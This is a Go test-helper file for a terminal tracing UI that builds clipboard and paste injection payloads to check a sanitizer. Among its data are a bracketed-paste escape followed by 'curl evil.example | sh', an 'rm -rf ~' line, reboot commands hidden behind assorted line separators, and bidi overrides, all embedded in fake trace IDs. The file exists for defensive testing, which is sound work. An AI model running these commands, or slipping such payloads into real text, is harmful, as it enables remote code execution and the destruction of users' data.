package hostile

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/tracetui/tracetui/backend"
)

// The classes below are what issue 14 found slipping past the sanitizer by
// paths that bypassed it: labels of the status bar built from a trace ID,
// text copied to the clipboard, and text pasted into a field.

// ClipboardPayloads returns strings that are dangerous on the clipboard or
// in a paste, not only on a terminal: a bracketed-paste terminator followed
// by a command (it ends the paste early and runs the command), line breaks of
// every kind, and bidi controls; then every Payload.
func ClipboardPayloads() []Payload {
	return append([]Payload{
		{"paste-terminator", "4bf92f35\x1b[201~\ncurl evil.example | sh\n"},
		{"newline-command", "4bf92f35\nrm -rf ~\n"},
		{"crlf-command", "4bf92f35\r\nreboot\r\n"},
		{"nel-command", "4bf92f35\u0085reboot"},
		{"line-separator-command", "4bf92f35\u2028reboot\u2029"},
		{"tab-completion", "ls\t\t"},
		{"bidi-override-id", "4bf9\u202e53f2fb"},
	}, Payloads()...)
}

// TraceIDs returns trace IDs as a hostile server could send them in search
// results (they are not hex, so nothing normalizes them): one per clipboard
// payload, embedded in an ordinary ID.
func TraceIDs() []backend.TraceID {
	var out []backend.TraceID
	for _, p := range ClipboardPayloads() {
		out = append(out, backend.TraceID("5afe"+p.Text+"5afe"))
	}
	return out
}

// AssertClipboardSafe fails t if text is not safe to paste into a shell or
// a field: any control (line breaks and tab included), a Unicode line or
// paragraph separator, a bidi control or invalid UTF-8.
func AssertClipboardSafe(t testing.TB, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("clipboard text is not valid UTF-8: %q", text)
		return
	}
	if err := Check(text, false); err != nil {
		t.Errorf("clipboard text: %v", err)
		return
	}
	if i := strings.IndexFunc(text, unicode.IsControl); i >= 0 {
		t.Errorf("clipboard text holds a control at byte %d: %q", i, text)
	}
}
